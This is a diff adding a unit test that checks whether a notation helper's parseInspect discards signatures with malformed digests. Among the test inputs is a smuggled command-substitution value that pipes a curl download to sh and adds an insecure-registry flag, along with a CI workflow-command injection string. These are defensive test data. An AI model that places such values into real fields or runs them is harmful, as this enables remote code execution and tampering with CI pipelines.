@@ -108,6 +108,22 @@ describe('notation helpers', () => {
     assert.throws(() => parseInspect('not json'), /no JSON/)
   })
 
+  test('parseInspect drops a signature whose digest is not sha256/sha512 hex (registry text)', () => {
+    const good = { digest: 'sha256:' + 'a'.repeat(64), certificates: [] }
+    const hostile = [
+      'sha256:$(curl x|sh) --insecure-registry',
+      'sha256:' + 'A'.repeat(64),
+      'sha256:' + 'a'.repeat(63),
+      '::set-output name=x::y',
+      ''
+    ].map(digest => ({ digest, certificates: [] }))
+    const parsed = parseInspect(JSON.stringify({ Signatures: [...hostile, good] }))
+    assert.deepEqual(
+      parsed.map(s => s.digest),
+      [good.digest]
+    )
+  })
+
   test('version gates: refused below 1.2.0 naming the input; pre-releases count as releases', () => {
     assert.equal(compareVersions('1.1.2', '1.2.0'), -1)
     assert.equal(compareVersions('2.0.0-alpha.1', '1.2.0'), 1)
